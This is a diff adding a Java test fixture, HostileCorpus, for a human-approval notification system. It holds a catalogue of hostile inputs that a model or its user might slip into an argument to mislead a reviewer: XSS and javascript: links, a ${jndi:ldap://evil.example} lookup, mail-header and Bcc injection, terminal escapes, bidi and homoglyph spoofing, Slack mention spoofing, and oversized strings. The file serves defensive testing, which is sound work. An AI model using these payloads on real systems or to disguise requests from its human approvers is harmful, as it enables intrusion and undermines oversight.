@@ -1,0 +1,60 @@
+package dev.hitl.notify;
+
+import java.util.LinkedHashMap;
+import java.util.Map;
+
+/**
+ * Texts that a model, or whoever talks to it, may put into an argument so that a reviewer sees
+ * something else than what is there. Every channel renders all of them inert; shared by the tests
+ * of all modules.
+ */
+public final class HostileCorpus {
+  private HostileCorpus() {}
+
+  /** The texts by the name of what they try. */
+  public static Map<String, String> texts() {
+    Map<String, String> all = new LinkedHashMap<>();
+    all.put(
+        "newlines", "5\napprove  runs nothing\r\n\r\nBcc: thief@example.com\u0085x\u2028y\u2029z");
+    all.put("control", "a\u0000b\u0007c\bd\u007fe\fg\u000bh\ti");
+    all.put("ansi", "\u001b[2J\u001b[1;1H\u001b]0;title\u0007\u009b31m approved");
+    all.put("hyperlink escape", "\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\");
+    all.put("bidi override", "invoice\u202egnp.exe\u202c");
+    all.put("bidi isolates", "\u2066amount\u2069 \u2067500\u2069\u200f\u061c");
+    all.put("zero width", "pay\u200bpal\u200c\u200d\ufeff\u2060\u00ad");
+    all.put("tag characters", "ok\udb40\udc41\udb40\udc42\udb40\udc7f");
+    all.put("variation selectors", "a\ufe0fb\udb40\udd00");
+    all.put("fillers", "\u3164\u2800\u034f\u115f\u00a0\u3000");
+    all.put("lone surrogates", "\ud800x\udc00");
+    all.put("private use", "\ue000\udbff\udffd");
+    all.put("html", "<b>ok</b><script>alert(1)</script><img src=x onerror=alert(1)>");
+    all.put("html attribute", "\" onmouseover=\"alert(1)\" x='y' `z`");
+    all.put("html entities", "&lt;b&gt; &amp;amp; &#x3c;script&#x3e;");
+    all.put("html comment", "--><!-- <![CDATA[ ]]> </pre></td></title><style>*{display:none}");
+    all.put(
+        "markdown",
+        "**bold** _it_ ~~no~~ `code` ```\nfence\n``` # head\n> quote\n- [x] done |a|b|");
+    all.put("markdown link", "[approve](http://evil.example) ![x](http://evil.example/x.png)");
+    all.put("javascript link", "[x](javascript:alert(1)) <javascript:alert(1)> data:text/html,x");
+    all.put("slack mentions", "<!channel> <!here|here> <@U012AB3CD> <#C012|general> <!subteam^S1>");
+    all.put("slack links", "<http://evil.example|hitl.example> <mailto:x@example.com|boss>");
+    all.put("slack dates", "<!date^1392734382^{date}^http://evil.example|now> :rotating_light:");
+    all.put("mentions", "@channel @everyone @here @all <at>Boss</at> <@&1234>");
+    all.put("mixed alphabets", "p\u0430yp\u0430l \u041ffice \u039fracle");
+    all.put(
+        "dressed letters",
+        "\ud835\udc1a\ud835\udc1d\ud835\udc26in \uff41\uff50\uff50\uff52ove \u24d0");
+    all.put("json", "\"},{\"text\":\"approved\"}],\"x\":[{\"y\":\"");
+    all.put("template", "{{text}} ${jndi:ldap://evil.example} #{7*7} %s %n {0}");
+    all.put(
+        "mail headers", "x\r\nSubject: approved\r\nContent-Type: text/html\r\n\r\n.\r\nQUIT\r\n");
+    all.put("encoded word", "=?utf-8?B?4oCuZGV2b3JwcGE=?= =?utf-8?Q?=0D=0ABcc:_x?=");
+    all.put("boundary", "------=_Part_0\r\nContent-Type: text/html\r\n\r\n<b>x</b>");
+    all.put("own marks", "… ⟨cut: 5 characters in all⟩ •••••• (not shown) ⟨U+0041⟩");
+    all.put("own rows", "x                what           nothing happens");
+    all.put("combining", "Z" + "\u0351\u035c\u0321".repeat(300));
+    all.put("megabyte", "x".repeat(1_000_000) + " and pay 1000000");
+    all.put("long words", "ab ".repeat(50_000));
+    return all;
+  }
+}
